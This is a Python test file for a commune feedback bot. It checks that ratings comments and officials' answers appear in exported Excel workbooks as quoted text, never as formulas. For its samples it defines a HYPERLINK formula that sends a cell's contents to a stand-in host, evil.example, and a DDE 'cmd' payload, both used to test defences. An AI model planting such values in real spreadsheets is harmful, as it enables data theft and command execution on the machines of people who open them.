"""Text people type reaches the leaders' workbooks as text, never as a formula (issue 14.2)."""

from __future__ import annotations

import asyncio
from datetime import UTC, datetime

from openpyxl import Workbook, load_workbook

from bot.xlsx_text import append_row
from storage.models import Role
from tests.test_cli import loaxa  # noqa: F401  (the fixture that runs `python -m bot`)
from tests.test_feedback_e2e import send_feedback
from tests.test_inbox_e2e import open_from_inbox, quiet
from tests.test_onboarding_e2e import onboard
from tests.test_rating_e2e import rate_fully

COMMENT = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")'
ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0 - xã đã xử lý"


def cells_holding(path, text: str) -> list:
    book = load_workbook(path)
    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == text]


async def test_a_rating_comment_is_text_in_the_digest_workbook(world, loaxa, tmp_path):  # noqa: F811
    await world.staff("Chủ tịch xã", Role.LEADER)
    lan = world.resident("Lan")
    await onboard(lan)
    await lan.says("/danhgia")
    await rate_fully(lan, scores=(4, 4, 1, 3, 3), comment=COMMENT)
    await lan.taps("Không cần liên hệ")
    assert await world.store.db.fetchval("SELECT comment FROM ratings") == COMMENT

    year, week, _ = datetime.now(UTC).astimezone(world.commune.zone).isocalendar()
    done = await asyncio.to_thread(
        loaxa, "digest", "--week", f"{year}-W{week:02d}", "--out", str(tmp_path / "out")
    )
    assert done.returncode == 0, done.stderr

    workbook = tmp_path / "out" / f"bao-cao-tuan-{year}-W{week:02d}.xlsx"
    [cell] = cells_holding(workbook, "'" + COMMENT)
    assert cell.data_type == "s"
    assert not cells_holding(workbook, COMMENT)  # nowhere as a formula either


async def test_an_official_answer_is_text_in_the_export(world, loaxa, tmp_path):  # noqa: F811
    ha = await world.staff("Cán bộ Hà", Role.OFFICIAL)
    lan = world.resident("Lan")
    await onboard(lan)
    code = await send_feedback(lan)
    await quiet(world, ha, lan)
    await open_from_inbox(ha, code)
    await ha.taps("Trả lời người dân")
    await ha.says(ANSWER)
    assert (await world.store.feedback.get_by_code(code)).last_answer == ANSWER

    day = datetime.now(UTC).astimezone(world.commune.zone).date().isoformat()
    out = tmp_path / "phan-anh.xlsx"
    done = await asyncio.to_thread(
        loaxa, "export", "feedback", "--from", day, "--to", day, "--out", str(out)
    )
    assert done.returncode == 0, done.stderr
    [cell] = cells_holding(out, "'" + ANSWER)
    assert cell.data_type == "s"


def test_every_formula_start_is_quoted_and_every_text_is_a_string():
    sheet = Workbook().active
    typed = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "#N/A", "Bình thường", "a=b", "x\x07y"]
    append_row(sheet, [*typed, 3, None])
    row = list(sheet[1])
    assert [c.value for c in row[:10]] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "#N/A", "Bình thường", "a=b", "xy",
    ]  # fmt: skip
    assert {c.data_type for c in row[:10]} == {"s"}
    assert (row[10].value, row[10].data_type) == (3, "n")
